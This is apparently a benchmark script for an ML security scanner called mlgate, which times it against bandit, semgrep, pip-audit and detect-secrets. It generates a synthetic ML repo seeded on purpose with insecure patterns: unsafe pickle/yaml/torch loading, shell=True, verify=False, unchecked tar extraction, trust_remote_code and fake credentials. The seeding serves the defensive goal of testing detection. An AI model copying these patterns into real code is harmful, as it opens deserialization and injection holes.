#!/usr/bin/env python3
"""Benchmark `mlgate run` against the raw tools it runs (issue 7, item 5).

    python bench/bench.py [--repeat N] [--quick] [--corpus examples|synthetic|sdist|all]
                          [--json OUT] [--sdist NAME==VERSION] [--advisory-db DIR]
                          [--settle SECONDS] [--snapshot] [--work DIR] [--keep]

For each corpus and each repetition, back to back: the raw tools one after another
(bandit, semgrep with mlgate's rule pack, pip-audit, detect-secrets), and a cold
`mlgate run` (empty MLGATE_CACHE_DIR), a warm re-run, and a run after appending a line
to one `.py` file (warm cache); odd repetitions start with the raw tools, even ones
with mlgate. Every figure is a median over the repetitions; every
ratio is the median of the per-repetition ratios. See bench/README.md for definitions.

mlgate runs in a child `python -c` that calls `mlgate.cli.run_main`, records when each
tool subprocess starts and ends (by wrapping `mlgate.tools.run_tool`), and reports its
own peak RSS (`ru_maxrss` of RUSAGE_SELF: the tools' memory is not counted).
Gates or tools that are not there yet are reported as n/a.
"""

from __future__ import annotations

import argparse
import base64
import contextlib
import datetime as dt
import io
import json
import os
import platform
import random
import resource
import shutil
import statistics
import struct
import subprocess
import sys
import tarfile
import tempfile
import time
import zipfile
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from importlib import metadata
from pathlib import Path
from typing import Any

REPO_ROOT = Path(__file__).resolve().parents[1]
RULES_DIR = REPO_ROOT / "policies" / "semgrep" / "rules"
EXAMPLES = ("insecure-ml", "churn-model")
DEFAULT_SDIST = "keras==3.6.0"
SEED = 20_251_124
CORPORA = ("examples", "synthetic", "sdist")
BENCH_GATES = ("sast", "secrets", "deps")  # the gates that have a raw-tool counterpart
RAW_TOOLS: Mapping[str, str] = {  # raw tool -> the gate that runs it inside mlgate
    "bandit": "sast",
    "semgrep": "sast",
    "pip-audit": "deps",
    "detect-secrets": "secrets",
}
NOT_SCANNERS = frozenset({"git"})  # mlgate's own helpers: their time is mlgate's overhead
MODEL_SUFFIXES = (".pkl", ".pickle", ".pt", ".pth", ".joblib", ".npy", ".npz", ".h5", ".keras")
TIMEOUT = 3600.0
FIXED_DATE = "2025-01-01T00:00:00+00:00"


@dataclass(frozen=True)
class Goal:
    key: str  # a metric in CorpusResult.metrics
    limit: float
    text: str  # how the goal is printed
    strict: bool = False  # value < limit (else value <= limit)

    def met(self, value: float) -> bool:
        return value < self.limit if self.strict else value <= self.limit


GOALS: tuple[Goal, ...] = (
    Goal("cold_over_sum", 0.75, "<= 0.75"),
    Goal("cold_over_slowest", 1.15, "<= 1.15"),
    Goal("warm", 0.5, "<= 0.5 s"),
    Goal("warm_over_cold", 0.05, "<= 5%"),
    Goal("changed_over_cold", 0.10, "<= 10%"),
    Goal("overhead", 0.3, "< 0.3 s", strict=True),
)

# Runs inside the child interpreter: times every tool subprocess, then runs mlgate.
CHILD = r"""
import json, os, resource, subprocess, sys, time
_t0 = time.monotonic()
_calls = []
import mlgate.tools as _tools

def _wrap(fn):
    def timed(argv, *args, **kwargs):
        begin = time.monotonic()
        try:
            return fn(argv, *args, **kwargs)
        finally:
            _calls.append({"tool": os.path.basename(str(argv[0])), "start": begin,
                           "end": time.monotonic(), "argv": [str(a) for a in argv[:10]]})
    return timed

# CPU time of each tool's process tree, from wait4() when subprocess reaps it (Linux/macOS).
_reaped = []
_try_wait = getattr(subprocess.Popen, "_try_wait", None)
if _try_wait is not None and hasattr(os, "wait4"):
    def _wait4(self, wait_flags):
        try:
            pid, status, usage = os.wait4(self.pid, wait_flags)
        except ChildProcessError:
            return _try_wait(self, wait_flags)
        if pid == self.pid:
            _reaped.append({"tool": os.path.basename(str(self.args[0])),
                            "cpu": usage.ru_utime + usage.ru_stime})
        return (pid, status)
    subprocess.Popen._try_wait = _wait4

_wrapped = {}
for _name in ("run_tool", "run_tool_measured"):
    _fn = getattr(_tools, _name, None)
    if callable(_fn):
        _wrapped[_name] = (_fn, _wrap(_fn))
        setattr(_tools, _name, _wrapped[_name][1])
from mlgate.cli import run_main
for _mod in list(sys.modules.values()):  # names bound by `from mlgate.tools import ...`
    if getattr(_mod, "__name__", "").startswith("mlgate"):
        for _orig, _new in _wrapped.values():
            for _attr, _value in list(vars(_mod).items()):
                if _value is _orig:
                    setattr(_mod, _attr, _new)
_t1 = time.monotonic()
_code = run_main(sys.argv[1:])
_t2 = time.monotonic()
_self = resource.getrusage(resource.RUSAGE_SELF)
_rss = _self.ru_maxrss
print(f"ru_maxrss={_rss}", file=sys.stderr)
with open(os.environ["MLGATE_BENCH_STATS"], "w", encoding="utf-8") as _out:
    json.dump({"t_start": _t0, "t_imported": _t1, "t_done": _t2, "returncode": _code,
               "maxrss_kb": _rss, "cpu": _self.ru_utime + _self.ru_stime, "calls": _calls,
               "reaped": _reaped, "wrapped": sorted(_wrapped)}, _out)
sys.exit(_code)
"""

PROBE = r"""
import json, sys
import mlgate
from mlgate.gates import GATES
from mlgate.resources import rule_pack_dir
print(json.dumps({"version": mlgate.__version__, "gates": list(GATES),
                  "rules": str(rule_pack_dir()), "file": mlgate.__file__}))
"""


def log(message: str) -> None:
    print(f"[bench] {message}", file=sys.stderr, flush=True)


# --- environment --------------------------------------------------------------------------


@dataclass(frozen=True)
class Env:
    python: str
    mlgate_version: str
    gates: tuple[str, ...]  # the benchmarked gates present in this mlgate
    other_gates: tuple[str, ...]  # present, not benchmarked (no raw-tool counterpart)
    rules: Path
    tools: Mapping[str, str | None]  # raw tool -> executable (None: not installed)
    versions: Mapping[str, str | None]
    advisory_db: Path | None
    source: str  # where mlgate is imported from, and which commit
    pythonpath: str | None = None  # a frozen copy of src/ (--snapshot)

    def child_env(self) -> dict[str, str]:
        env = base_env()
        if self.pythonpath:
            env["PYTHONPATH"] = os.pathsep.join(
                p for p in (self.pythonpath, env.get("PYTHONPATH")) if p
            )
        return env


def find_tool(name: str) -> str | None:
    """Like mlgate: beside the running interpreter first, then on PATH."""
    beside = Path(sys.executable).parent / name
    if beside.is_file() and os.access(beside, os.X_OK):
        return str(beside)
    return shutil.which(name)


def base_env() -> dict[str, str]:
    env = {**os.environ, "NO_COLOR": "1"}
    for name in ("GITHUB_STEP_SUMMARY", "MLGATE_ADVISORY_DB", "MLGATE_CACHE_DIR"):
        env.pop(name, None)
    return env


def tool_version(name: str, exe: str | None) -> str | None:
    """From package metadata when the tool is installed beside this interpreter (`semgrep
    --version` may spend a minute looking for a newer release when offline), else --version."""
    if exe is None:
        return None
    if Path(exe).parent == Path(sys.executable).parent:
        with contextlib.suppress(metadata.PackageNotFoundError):
            return metadata.version(name)
    env = {**base_env(), "SEMGREP_ENABLE_VERSION_CHECK": "0"}
    try:
        done = subprocess.run(
            [exe, "--version"], capture_output=True, text=True, timeout=120, check=False, env=env
        )
    except (OSError, subprocess.TimeoutExpired):
        return None
    lines = (done.stdout or done.stderr).strip().splitlines()
    return lines[0].split()[-1] if lines else None


def discover(advisory_db: Path | None, pythonpath: str | None) -> Env:
    env = Env(sys.executable, "", (), (), RULES_DIR, {}, {}, advisory_db, "", pythonpath)
    done = subprocess.run(
        [sys.executable, "-c", PROBE],
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
        env=env.child_env(),
    )
    if done.returncode != 0:
        raise SystemExit(f"bench: cannot import mlgate with {sys.executable}:\n{done.stderr}")
    probe = json.loads(done.stdout)
    present = list(probe["gates"])
    tools = {name: find_tool(name) for name in RAW_TOOLS}
    versions = {name: tool_version(name, exe) for name, exe in tools.items()}
    return Env(
        python=sys.executable,
        mlgate_version=str(probe["version"]),
        gates=tuple(g for g in BENCH_GATES if g in present),
        other_gates=tuple(g for g in present if g not in BENCH_GATES),
        rules=Path(probe["rules"]),
        tools=tools,
        versions=versions,
        advisory_db=advisory_db,
        source=_source_of(Path(probe["file"]), pythonpath),
        pythonpath=pythonpath,
    )


def _source_of(module: Path, pythonpath: str | None) -> str:
    """`commit` (+ `, uncommitted changes`) of this checkout, and whether mlgate is a copy."""
    try:
        head = git(REPO_ROOT, "rev-parse", "--short", "HEAD").strip()
        dirty = bool(git(REPO_ROOT, "status", "--porcelain", "--", "src", "policies").strip())
    except (RuntimeError, OSError):
        head, dirty = "no git", False
    where = "a snapshot of this checkout" if pythonpath else str(module.parent)
    return f"{head}{' + uncommitted changes' if dirty else ''}, imported from {where}"


def snapshot_source(tmp: Path) -> str:
    """A frozen copy of src/ and the data folders: others may edit the tree during a run."""
    target = tmp / "snapshot"
    skip = shutil.ignore_patterns("__pycache__", "*.pyc")
    shutil.copytree(REPO_ROOT / "src", target / "src", ignore=skip)
    for data in ("policies", "pipeline_templates"):
        if (REPO_ROOT / data).is_dir():
            shutil.copytree(REPO_ROOT / data, target / data, ignore=skip)
    return str(target / "src")


def default_advisory_db() -> Path | None:
    given = os.environ.get("MLGATE_ADVISORY_DB")
    candidates = [Path(given)] if given else []
    candidates.append(REPO_ROOT.parent / "shared" / "advisory-db")
    return next((c.resolve() for c in candidates if (c / "vulns").is_dir()), None)


# --- corpora ------------------------------------------------------------------------------


@dataclass
class Corpus:
    name: str
    label: str
    root: Path
    touch: str  # the .py file a line is appended to for the one-file-changed run
    requirements: list[str]  # requirements*.txt files (relative), for the raw pip-audit
    counts: dict[str, Any] = field(default_factory=dict)


def git(root: Path, *args: str) -> str:
    env = {
        **base_env(),
        "GIT_AUTHOR_DATE": FIXED_DATE,
        "GIT_COMMITTER_DATE": FIXED_DATE,
        "GIT_CONFIG_NOSYSTEM": "1",
    }
    config = [
        "-c",
        "user.name=mlgate-bench",
        "-c",
        "user.email=bench@example.invalid",
        "-c",
        "commit.gpgsign=false",
        "-c",
        "init.defaultBranch=main",
        "-c",
        "core.autocrlf=false",
    ]
    done = subprocess.run(
        ["git", *config, *args],
        cwd=root,
        env=env,
        capture_output=True,
        text=True,
        timeout=600,
        check=False,
    )
    if done.returncode != 0:
        raise RuntimeError(f"git {' '.join(args)} failed in {root}: {done.stderr.strip()}")
    return done.stdout


def commit_tree(root: Path) -> None:
    git(root, "init", "-q")
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "benchmark corpus")


def finish_corpus(name: str, label: str, root: Path) -> Corpus:
    """Count the corpus' files (as git lists them) and pick the file to change."""
    files = [f for f in git(root, "ls-files", "-z").split("\0") if f]
    python = sorted(f for f in files if f.endswith(".py"))
    candidates = [f for f in python if not f.endswith("__init__.py")] or python
    if not candidates:
        raise RuntimeError(f"{name}: no Python file to change")
    size = sum((root / f).stat().st_size for f in files)
    requirements = sorted(
        f for f in files if Path(f).name.startswith("requirements") and f.endswith(".txt")
    )
    counts = {
        "files": len(files),
        "python": len(python),
        "notebooks": sum(f.endswith(".ipynb") for f in files),
        "models": sum(f.endswith(MODEL_SUFFIXES) for f in files),
        "python_lines": sum(_line_count(root / f) for f in python),
        "mb": round(size / 1e6, 1),
    }
    return Corpus(name, label, root, candidates[len(candidates) // 2], requirements, counts)


def _line_count(path: Path) -> int:
    with path.open("rb") as handle:
        return sum(1 for _ in handle)


def build_examples(tmp: Path) -> Corpus:
    root = tmp / "examples"
    for name in EXAMPLES:
        shutil.copytree(REPO_ROOT / "examples" / name, root / name)
    commit_tree(root)
    return finish_corpus("examples", "examples", root)


def build_synthetic(tmp: Path, quick: bool) -> Corpus:
    root = tmp / "synthml"
    generator = Synthetic(root, random.Random(SEED), quick)  # noqa: S311 (data, not crypto)
    generator.write()
    commit_tree(root)
    return finish_corpus("synthetic", "synthetic", root)


def build_sdist(tmp: Path, work: Path, spec: str) -> Corpus:
    archive = download_sdist(work / "sdist", spec)
    target = tmp / "sdist"
    target.mkdir()
    unpack(archive, target)
    tops = [p for p in target.iterdir() if p.is_dir()]
    root = tops[0] if len(tops) == 1 else target
    commit_tree(root)
    return finish_corpus("sdist", f"sdist {spec.replace('==', ' ')}", root)


def _normalise(name: str) -> str:
    return name.lower().replace("_", "-").replace(".", "-")


def download_sdist(folder: Path, spec: str) -> Path:
    """The sdist of NAME==VERSION, downloaded with pip once and kept in the work dir."""
    name, _, version = spec.partition("==")
    if not name or not version:
        raise RuntimeError(f"--sdist wants NAME==VERSION, not {spec!r}")
    folder.mkdir(parents=True, exist_ok=True)

    def cached() -> Path | None:
        prefix = f"{_normalise(name)}-{version}."
        for path in sorted(folder.iterdir()):
            file = path.name.lower().replace("_", "-")
            if file.startswith(prefix) and file.endswith((".tar.gz", ".zip")):
                return path
        return None

    found = cached()
    if found is not None:
        return found
    log(f"downloading the sdist of {spec} into {folder}")
    argv = [sys.executable, "-m", "pip", "download", "--no-deps", "--no-binary", ":all:"]
    argv += ["--disable-pip-version-check", "-q", "-d", str(folder), spec]
    done = subprocess.run(argv, capture_output=True, text=True, timeout=1800, check=False)
    found = cached()
    if found is None:
        tail = (done.stderr or done.stdout).strip()[-800:]
        raise RuntimeError(f"pip download {spec} failed (exit {done.returncode}): {tail}")
    return found


def unpack(archive: Path, target: Path) -> None:
    """Extract without trusting the archive: no absolute paths, no `..`, no links."""
    if archive.name.endswith(".zip"):
        with zipfile.ZipFile(archive) as zipped:
            for name in zipped.namelist():
                _check_member(name)
            zipped.extractall(target)  # noqa: S202 (names checked above)
        return
    with tarfile.open(archive) as tarred:
        # Links and devices are not needed to scan source code.
        members = [m for m in tarred.getmembers() if m.isfile() or m.isdir()]
        for member in members:
            _check_member(member.name)
        if hasattr(tarfile, "data_filter"):  # also makes the files ours (git wants that)
            tarred.extractall(target, members=members, filter="data")
            return
        for member in members:  # Python without extraction filters
            member.uid, member.gid, member.uname, member.gname = os.getuid(), os.getgid(), "", ""
            member.mode = ((member.mode or 0o644) & 0o755) | 0o600
        tarred.extractall(target, members=members)  # noqa: S202 (members checked above)


def _check_member(name: str) -> None:
    parts = Path(name).parts
    if name.startswith(("/", "\\")) or ".." in parts:
        raise RuntimeError(f"unsafe path in the archive: {name}")


# --- the synthetic ML repo ----------------------------------------------------------------

NOUNS = (
    "churn",
    "fraud",
    "credit",
    "sensor",
    "image",
    "text",
    "click",
    "session",
    "user",
    "item",
    "price",
    "demand",
    "weather",
    "traffic",
    "audio",
    "signal",
    "claim",
    "loan",
    "patient",
    "review",
)
PACKAGES = (
    "data",
    "features",
    "models",
    "training",
    "evaluation",
    "serving",
    "monitoring",
    "tuning",
    "pipelines",
    "utils",
    "vision",
    "nlp",
    "tabular",
    "timeseries",
    "recsys",
    "audio",
    "registry",
    "experiments",
    "storage",
    "viz",
)
ROLES = (
    "loader",
    "transform",
    "model",
    "trainer",
    "metrics",
    "split",
    "encoder",
    "scaler",
    "sampler",
    "report",
    "schema",
    "config",
    "store",
    "export",
    "callbacks",
    "ensemble",
    "calibration",
    "drift",
    "features",
    "pipeline",
)
COLUMNS = ("age", "tenure", "balance", "amount", "score", "label", "clicks", "duration", "price")
SUFFIXES = ("Classifier", "Regressor", "Encoder", "Net", "Model", "Ranker")
PINS = (
    "numpy==1.21.0",
    "pandas==1.3.5",
    "scikit-learn==0.24.2",
    "scipy==1.7.3",
    "torch==1.13.1",
    "torchvision==0.14.1",
    "transformers==4.30.2",
    "tokenizers==0.13.3",
    "PyYAML==5.3.1",
    "requests==2.25.1",
    "urllib3==1.26.5",
    "Pillow==9.0.1",
    "matplotlib==3.5.3",
    "seaborn==0.12.2",
    "tqdm==4.64.1",
    "joblib==1.1.0",
    "mlflow==2.8.0",
    "aiohttp==3.8.4",
    "Jinja2==3.1.2",
    "protobuf==3.20.1",
    "tensorflow==2.11.0",
    "lightgbm==3.3.5",
    "xgboost==1.7.6",
    "onnx==1.13.0",
    "gradio==3.34.0",
    "fastapi==0.95.2",
    "uvicorn==0.22.0",
    "pydantic==1.10.7",
    "notebook==6.4.8",
    "ipykernel==6.22.0",
)
ALNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"

# Code blocks of an ML module. Placeholders: {noun} {cls} {col} and numbers.
BLOCKS: Mapping[str, tuple[tuple[str, ...], str]] = {
    "load_frame": (
        ("import pandas as pd", "from pathlib import Path"),
        '''
def load_{noun}_frame(path: str | Path, columns: list[str] | None = None) -> pd.DataFrame:
    """Read the {noun} table and drop rows without a label."""
    frame = pd.read_csv(path, usecols=columns)
    frame = frame.dropna(subset=["{col}"])
    logger.info("loaded %d rows from %s", len(frame), path)
    return frame
''',
    ),
    "normalise": (
        ("import numpy as np",),
        '''
def normalise_{noun}(values: np.ndarray, eps: float = {eps}) -> np.ndarray:
    """Standardise each column; eps keeps constant columns finite."""
    mean = values.mean(axis=0, keepdims=True)
    std = values.std(axis=0, keepdims=True)
    return (values - mean) / (std + eps)
''',
    ),
    "module": (
        ("import torch", "import torch.nn as nn"),
        '''
class {cls}(nn.Module):
    """A small feed-forward network for {noun} data."""

    def __init__(self, in_features: int = {n}, hidden: int = {h}, dropout: float = {p}) -> None:
        super().__init__()
        self.net = nn.Sequential(
            nn.Linear(in_features, hidden),
            nn.ReLU(),
            nn.Dropout(dropout),
            nn.Linear(hidden, {k}),
        )

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.net(x)
''',
    ),
    "train": (
        ("import torch", "import torch.nn as nn", "from typing import Any"),
        '''
def train_{noun}(model: nn.Module, loader: Any, epochs: int = {e}, lr: float = {lr}) -> list[float]:
    """Plain training loop; returns the mean loss of each epoch."""
    optimizer = torch.optim.Adam(model.parameters(), lr=lr)
    loss_fn = nn.CrossEntropyLoss()
    history: list[float] = []
    for epoch in range(epochs):
        total = 0.0
        for features, labels in loader:
            optimizer.zero_grad()
            loss = loss_fn(model(features), labels)
            loss.backward()
            optimizer.step()
            total += float(loss.item())
        history.append(total / max(1, len(loader)))
        logger.debug("epoch %d loss %.4f", epoch, history[-1])
    return history
''',
    ),
    "evaluate": (
        ("import numpy as np", "from sklearn.metrics import roc_auc_score"),
        '''
def evaluate_{noun}(
    y_true: np.ndarray, scores: np.ndarray, threshold: float = {t}
) -> dict[str, float]:
    """Accuracy at a threshold and the ranking quality of the scores."""
    predicted = (scores >= threshold).astype(int)
    accuracy = float((predicted == y_true).mean())
    auc = float(roc_auc_score(y_true, scores))
    return {{"accuracy": accuracy, "auc": auc, "threshold": threshold}}
''',
    ),
    "config": (
        ("import json", "from dataclasses import dataclass, field"),
        '''
@dataclass
class {cls}Config:
    """Hyper-parameters of the {noun} experiment."""

    learning_rate: float = {lr}
    batch_size: int = {b}
    epochs: int = {e}
    features: list[str] = field(default_factory=lambda: [{cols}])

    def to_json(self) -> str:
        return json.dumps(self.__dict__, sort_keys=True)
''',
    ),
    "split": (
        ("import pandas as pd", "from sklearn.model_selection import train_test_split"),
        '''
def split_{noun}(frame: pd.DataFrame, seed: int = {seed}) -> tuple[pd.DataFrame, pd.DataFrame]:
    """Stratified train/test split."""
    train, test = train_test_split(
        frame, test_size={ts}, random_state=seed, stratify=frame["{col}"]
    )
    return train.reset_index(drop=True), test.reset_index(drop=True)
''',
    ),
    "rolling": (
        ("import pandas as pd",),
        '''
def add_{noun}_rolling(frame: pd.DataFrame, windows: tuple[int, ...] = ({w})) -> pd.DataFrame:
    """Rolling mean and spread of {col} over several windows."""
    out = frame.copy()
    for window in windows:
        out[f"{col}_mean_{{window}}"] = out["{col}"].rolling(window, min_periods=1).mean()
        out[f"{col}_std_{{window}}"] = out["{col}"].rolling(window, min_periods=1).std().fillna(0.0)
    return out
''',
    ),
    "batches": (
        ("from collections.abc import Iterator", "import numpy as np"),
        '''
def iter_{noun}_batches(
    x: np.ndarray, y: np.ndarray, size: int = {b}
) -> Iterator[tuple[np.ndarray, np.ndarray]]:
    """Shuffled mini-batches (the last one may be short)."""
    order = np.random.default_rng({seed}).permutation(len(x))
    for start in range(0, len(order), size):
        chunk = order[start : start + size]
        yield x[chunk], y[chunk]
''',
    ),
    "save_json": (
        ("import json", "from pathlib import Path", "from typing import Any"),
        '''
def save_{noun}_metrics(metrics: dict[str, Any], folder: Path) -> Path:
    """Write metrics next to the model, sorted for stable diffs."""
    folder.mkdir(parents=True, exist_ok=True)
    target = folder / "{noun}_metrics.json"
    target.write_text(json.dumps(metrics, indent=2, sort_keys=True), encoding="utf-8")
    return target
''',
    ),
}

# Hazards a scanner should see (and a few safe variants that it should not flag).
HAZARDS: Mapping[str, tuple[tuple[str, ...], str]] = {
    "pickle": (
        ("import pickle", "from typing import Any"),
        """
def load_{noun}_cache(path: str) -> Any:
    with open(path, "rb") as handle:
        return pickle.load(handle)
""",
    ),
    "yaml": (
        ("import yaml", "from typing import Any"),
        """
def read_{noun}_params(path: str) -> Any:
    with open(path) as handle:
        return yaml.load(handle, Loader=yaml.Loader)
""",
    ),
    "yaml_safe": (
        ("import yaml", "from typing import Any"),
        """
def read_{noun}_params(path: str) -> Any:
    with open(path) as handle:
        return yaml.safe_load(handle)
""",
    ),
    "torch": (
        ("import torch", "from typing import Any"),
        """
def restore_{noun}_checkpoint(path: str) -> Any:
    return torch.load(path, map_location="cpu")
""",
    ),
    "torch_safe": (
        ("import torch", "from typing import Any"),
        """
def restore_{noun}_checkpoint(path: str) -> Any:
    return torch.load(path, map_location="cpu", weights_only=True)
""",
    ),
    "requests": (
        ("import requests", "from typing import Any"),
        """
def fetch_{noun}_manifest(url: str) -> dict[str, Any]:
    response = requests.get(url, timeout=30, verify=False)
    response.raise_for_status()
    return response.json()
""",
    ),
    "shell": (
        ("import subprocess",),
        """
def run_{noun}_job(command: str) -> int:
    return subprocess.call(command, shell=True)
""",
    ),
    "numpy": (
        ("import numpy as np",),
        """
def load_{noun}_array(path: str) -> np.ndarray:
    return np.load(path, allow_pickle=True)
""",
    ),
    "tar": (
        ("import tarfile",),
        """
def unpack_{noun}_archive(path: str, target: str) -> None:
    with tarfile.open(path) as archive:
        archive.extractall(target)
""",
    ),
    "remote_code": (
        ("from typing import Any",),
        """
def load_{noun}_backbone(name: str) -> Any:
    from transformers import AutoModel

    return AutoModel.from_pretrained(name, trust_remote_code=True)
""",
    ),
}


class Synthetic:
    """A seeded, deterministic ML repo: ~2,000 .py files, 50 notebooks, 20 model files."""

    def __init__(self, root: Path, rng: random.Random, quick: bool) -> None:
        self.root = root
        self.rng = rng
        self.modules_per_package = 9 if quick else 94  # 20 packages x (N + __init__)
        self.tests = 8 if quick else 80
        self.scripts = 2 if quick else 20
        self.notebooks = 5 if quick else 50
        self.secret_modules = 2 if quick else 6

    def write(self) -> None:
        self.root.mkdir(parents=True)
        self._text("README.md", "# synthml\n\nA generated ML repository for mlgate's benchmark.\n")
        self._text(".gitignore", "__pycache__/\n*.log\nmlruns/\n")
        self._text("requirements.txt", "# pinned for reproducible training\n" + _lines(PINS))
        self._text("configs/train.yaml", "model: {hidden: 128, dropout: 0.1}\nepochs: 20\n")
        self._text("data/sample.csv", self._csv())
        secrets = set(self.rng.sample(range(len(PACKAGES)), self.secret_modules))
        for index, package in enumerate(PACKAGES):
            self._package(package, with_secret=index in secrets)
        for number in range(self.tests):
            self._text(f"tests/test_{NOUNS[number % len(NOUNS)]}_{number}.py", self._test(number))
        for number in range(self.scripts):
            self._text(f"scripts/run_{NOUNS[number % len(NOUNS)]}_{number}.py", self._script())
        for number in range(self.notebooks):
            notebook = self._notebook(number)
            self._text(f"notebooks/{NOUNS[number % len(NOUNS)]}_{number:02d}.ipynb", notebook)
        for rel, data in self._models():
            self._bytes(f"models/{rel}", data)

    # files

    def _text(self, rel: str, text: str) -> None:
        self._bytes(rel, text.encode("utf-8"))

    def _bytes(self, rel: str, data: bytes) -> None:
        path = self.root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)

    def _csv(self) -> str:
        rows = [",".join(COLUMNS)]
        for _ in range(200):
            rows.append(",".join(str(self.rng.randint(0, 999)) for _ in COLUMNS))
        return _lines(rows)

    # python

    def _package(self, package: str, with_secret: bool) -> None:
        base = f"src/synthml/{package}"
        self._text(f"{base}/__init__.py", f'"""synthml.{package}."""\n')
        names: list[str] = []
        for number in range(self.modules_per_package):
            role = ROLES[number % len(ROLES)]
            names.append(f"{self.rng.choice(NOUNS)}_{role}_{number}")
        secret_at = self.rng.randrange(self.modules_per_package) if with_secret else -1
        for number, name in enumerate(names):
            self._text(f"{base}/{name}.py", self._module(package, name, number == secret_at))

    def _module(self, package: str, name: str, with_secret: bool) -> str:
        rng = self.rng
        noun = name.split("_", 1)[0]
        chosen = rng.sample(sorted(BLOCKS), rng.randint(4, 8))
        parts = [BLOCKS[key] for key in chosen]
        if rng.random() < 0.10:
            parts.append(HAZARDS[rng.choice(sorted(HAZARDS))])
        imports = sorted({line for needed, _ in parts for line in needed} | {"import logging"})
        body = [self._fill(template, noun) for _, template in parts]
        head = [
            f'"""{noun.capitalize()} {name.split("_")[1]} for synthml.{package}."""',
            "",
            "from __future__ import annotations",
            "",
            *_stdlib_first(imports),
            "",
            "logger = logging.getLogger(__name__)",
        ]
        if with_secret:
            head += ["", *self._secret_lines()]
        return "\n".join(head) + "\n\n\n" + "\n\n".join(b.strip("\n") + "\n" for b in body)

    def _fill(self, template: str, noun: str) -> str:
        rng = self.rng
        columns = rng.sample(COLUMNS, 3)
        return template.format(
            noun=noun,
            cls=noun.capitalize() + rng.choice(SUFFIXES),
            col=columns[0],
            cols=", ".join(f'"{c}"' for c in columns),
            eps=rng.choice(("1e-8", "1e-6", "1e-12")),
            n=rng.choice((16, 32, 64, 128)),
            h=rng.choice((64, 128, 256)),
            k=rng.choice((2, 3, 10)),
            p=rng.choice((0.1, 0.2, 0.3)),
            e=rng.randint(5, 50),
            lr=rng.choice(("1e-3", "3e-4", "1e-4")),
            t=rng.choice((0.3, 0.5, 0.7)),
            b=rng.choice((32, 64, 128, 256)),
            seed=rng.randint(0, 9999),
            ts=rng.choice((0.1, 0.2, 0.25)),
            w=", ".join(str(w) for w in sorted(rng.sample((3, 7, 14, 30, 90), 3))),
        )

    def _token(self, alphabet: str, length: int) -> str:
        return "".join(self.rng.choice(alphabet) for _ in range(length))

    def _secret_lines(self) -> list[str]:
        """Fake credentials (generated, never real) of the kinds ML repos leak."""
        return [
            "# TODO(ops): move these to the secret store",
            f'WANDB_API_KEY = "{self._token("0123456789abcdef", 40)}"  # wandb logging',
            f'HF_TOKEN = "hf_{self._token(ALNUM, 34)}"',
            f'aws_secret_access_key = "{self._token(ALNUM + "/+", 40)}"',
        ]

    def _test(self, number: int) -> str:
        noun = NOUNS[number % len(NOUNS)]
        cases = []
        for case in range(self.rng.randint(3, 8)):
            size = self.rng.randint(2, 64)
            cases.append(
                f"def test_{noun}_shape_{case}() -> None:\n"
                f"    values = np.arange({size * 4}, dtype=float).reshape({size}, 4)\n"
                f"    scaled = (values - values.mean(axis=0)) / (values.std(axis=0) + 1e-8)\n"
                f"    assert scaled.shape == ({size}, 4)\n"
                f"    assert np.allclose(scaled.mean(axis=0), 0.0, atol=1e-6)\n"
            )
        head = f'"""Tests of the {noun} helpers."""\n\nimport numpy as np\n\n\n'
        return head + "\n\n".join(cases)

    def _script(self) -> str:
        noun = self.rng.choice(NOUNS)
        unsafe = self.rng.random() < 0.3
        call = (
            'subprocess.run(f"python -m synthml.training --data {args.data}", shell=True)'
            if unsafe
            else 'subprocess.run(["python", "-m", "synthml.training", "--data", args.data])'
        )
        return (
            f'"""Train the {noun} model from the command line."""\n\n'
            "import argparse\nimport subprocess\n\n\n"
            "def main() -> None:\n"
            "    parser = argparse.ArgumentParser()\n"
            f'    parser.add_argument("--data", default="data/{noun}.csv")\n'
            "    args = parser.parse_args()\n"
            f"    {call}\n\n\n"
            'if __name__ == "__main__":\n    main()\n'
        )

    # notebooks (nbformat 4.5)

    def _notebook(self, number: int) -> str:
        rng = self.rng
        noun = NOUNS[number % len(NOUNS)]
        count = 0
        cells: list[dict[str, Any]] = [
            self._markdown(f"# {noun.capitalize()} exploration\n\nLoad, train, look at errors.")
        ]

        def code(source: str, outputs: list[dict[str, Any]]) -> None:
            nonlocal count
            count += 1
            for output in outputs:
                if "execution_count" in output:
                    output["execution_count"] = count
            cells.append(
                {
                    "cell_type": "code",
                    "execution_count": count,
                    "id": self._token("0123456789abcdef", 8),
                    "metadata": {},
                    "outputs": outputs,
                    "source": _source(source),
                }
            )

        pin = rng.choice(("pandas", "seaborn==0.12.2", "lightgbm", "shap==0.41.0"))
        code(f"%matplotlib inline\n!pip install -q {pin}", [])
        code(
            "import numpy as np\nimport pandas as pd\nimport matplotlib.pyplot as plt\n"
            "from sklearn.linear_model import LogisticRegression",
            [],
        )
        code(f'df = pd.read_csv("data/{noun}.csv")\ndf.head()', [self._frame_output()])
        for _ in range(rng.randint(3, 8)):
            cells.append(self._markdown(f"## Step on {rng.choice(COLUMNS)}"))
            code(
                f'df["{rng.choice(COLUMNS)}"].hist(bins={rng.randint(10, 60)})\nplt.show()',
                [self._image_output()],
            )
            epochs = rng.randint(3, 12)
            log_lines = "".join(
                f"epoch {e} loss {rng.random():.4f} val_auc {rng.random():.4f}\n"
                for e in range(epochs)
            )
            code(
                f"model = LogisticRegression(C={rng.choice((0.1, 1.0, 10.0))}, max_iter=500)\n"
                f'model.fit(df.drop(columns=["label"]), df["label"])\n'
                f"for epoch in range({epochs}):\n"
                f'    print(f"epoch {{epoch}} loss {{0.5 / (epoch + 1):.4f}}")',
                [{"name": "stdout", "output_type": "stream", "text": _source(log_lines)}],
            )
        if number % 5 == 0:
            code(f'import pickle\nmodel = pickle.load(open("models/{noun}.pkl", "rb"))', [])
        if number % 17 == 3:
            token = "hf_" + self._token(ALNUM, 34)
            code(
                "from huggingface_hub import login\nlogin()",
                [
                    {
                        "name": "stdout",
                        "output_type": "stream",
                        "text": [f"Token is valid: {token}\n", "Login successful\n"],
                    }
                ],
            )
        document = {
            "cells": cells,
            "metadata": {
                "kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"},
                "language_info": {"name": "python", "version": "3.11.7"},
            },
            "nbformat": 4,
            "nbformat_minor": 5,
        }
